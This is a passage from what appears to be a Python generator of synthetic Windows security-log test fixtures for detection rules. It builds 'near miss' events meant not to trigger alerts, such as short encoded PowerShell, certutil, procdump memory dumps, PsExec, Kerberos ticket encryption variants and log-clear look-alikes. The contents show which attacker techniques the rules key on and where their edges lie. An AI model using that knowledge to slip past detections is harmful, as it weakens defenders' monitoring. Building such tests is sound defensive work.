        "C:\\Windows\\CCM\\CcmExec.exe",
        "WS17$",
    )
    s1(f, "09:03:00", "ws17", PS, f'"{PS}" -e dGVzdA==', CMD, "PowerShell.EXE")  # too short to carry a script
    s1(
        f,
        "09:04:00",
        "ws17",
        "C:\\Windows\\System32\\certutil.exe",
        f"certutil -encode in.txt out.txt -e {sccm}",
        CMD,
        "CertUtil.exe",
    )  # not PowerShell
    p4104(
        f,
        "09:05:00",
        "ws17",
        "$raw=[Convert]::FromBase64String($certB64); [IO.File]::WriteAllBytes('C:\\Temp\\root.cer', $raw)",
    )  # decodes data, runs nothing
    p4104(f, "09:06:00", "ws17", "Invoke-Expression 'Get-Date -Format o'")  # runs a fixed string
    p4104(f, "09:07:00", "ws17", "Get-ADGroupMember -Identity 'Domain Admins' | Select-Object Name,SamAccountName")
    p4104(f, "09:08:00", "ws17", "Invoke-WebRequest -Uri https://intranet.corp.example/report -OutFile r.html")
    s1(f, "09:10:00", "ws17", CMD, 'cmd.exe /c echo done ^& findstr "^Error" C:\\Logs\\app.log', PS, "Cmd.Exe")
    s1(f, "09:11:00", "ws17", PS, 'powershell.exe -c "Write-Host \\"Name`t`tValue`r`n\\""', CMD, "PowerShell.EXE")
    s1(
        f,
        "09:12:00",
        "ws17",
        PS,
        'powershell.exe -c "Get-ChildItem C:\\Logs | Sort-Object `\n Length"',
        CMD,
        "PowerShell.EXE",
    )
    f.write()

    # -- near misses for every building block: nothing matches, nothing fires -----------------------
    f = File("near_misses")
    f4625(f, "08:00:00", "app01", "jdoe", "-", "-", lt=8)  # failure with no source
    f4624(f, "08:00:10", "ws17", "WS17$", f"{DOM}-3017", "-", "-", lt=3)  # machine account
    f4624(f, "08:00:20", "ws17", "SYSTEM", "S-1-5-18", "-", "-", lt=5)  # SYSTEM
    f4624(f, "08:00:30", "fs01", "ANONYMOUS LOGON", "S-1-5-7", "10.20.5.9", "WS-0009", lt=3)
    f.add(
        "08:01:00",
        4767,
        "dc01",
        {
            "TargetUserName": "mnash",
            "TargetDomainName": "CORP",
            "TargetSid": f"{DOM}-1190",
            **subj("adm.jones", f"{DOM}-1160"),
        },
    )  # unlock
    f4769(f, "08:02:00", "jdoe", "svc_sql", "0x12")  # AES
    f4769(f, "08:02:01", "jdoe", "FS01$", "0x17")  # computer service
    f4769(f, "08:02:02", "jdoe", "krbtgt", "0x17")
    f4769(f, "08:02:03", "jdoe", "svc_web", "0x17", status="0x1b")  # refused
    f4768(f, "08:03:00", "jdoe", "::ffff:10.20.5.15")  # pre-authenticated AES
    f4768(f, "08:03:01", "legacy_unix", "::ffff:10.20.8.8", preauth="0", etype="0x12")  # no pre-auth, AES
    f4768(f, "08:03:02", "KIOSK01$", "::ffff:10.20.8.10", preauth="0", etype="0x17")  # machine account
    f4768(f, "08:03:03", "ghost1", "::ffff:10.20.8.11", preauth="-", etype="0xffffffff", status="0x6")
    f.add(
        "08:04:00",
        4722,
        "dc01",
        {
            "TargetUserName": "treed12",
            "TargetDomainName": "CORP",
            "TargetSid": f"{DOM}-5212",
            **subj("adm.jones", f"{DOM}-1160"),
        },
    )  # enabled
    f7045(f, "08:05:00", "fs02", "SecureAV Update Helper", '"C:\\Program Files\\SecureAV\\avupdate.exe" -service')
    f5145(f, "08:06:00", "fs01", "jdoe", "10.20.5.15", "\\\\*\\ADMIN$", "Temp\\patch.msi")
    f5145(f, "08:06:01", "fs01", "jdoe", "10.20.5.15", "\\\\*\\IPC$", "srvsvc")
    f5145(f, "08:06:02", "fs01", "jdoe", "10.20.5.15", "\\\\*\\Shared", "Reports\\stdin-stdout-stderr.txt")
    s1(f, "08:07:00", "adm-ws01", PSEXEC, "PsExec.exe -h", PS, "psexec.c")
    s1(
        f,
        "08:07:10",
        "adm-ws01",
        "C:\\Tools\\SysinternalsSuite\\procdump.exe",
        "procdump -accepteula -ma 4411",
        PS,
        "procdump",
    )
    f104(f, "08:08:00", "lab02", "adm.patel", provider="Microsoft-Windows-Kernel-General")
    f.add("08:08:10", 1102, "lab02", {"Data": "x"}, provider="SomeVendorAgent", channel="Application")
    f.add("08:08:20", 1100, "lab02", {"LogFileCleared": {}}, provider=EVENTLOG, channel="Security", kind="UserData")
    f.write()


if __name__ == "__main__":
    main()
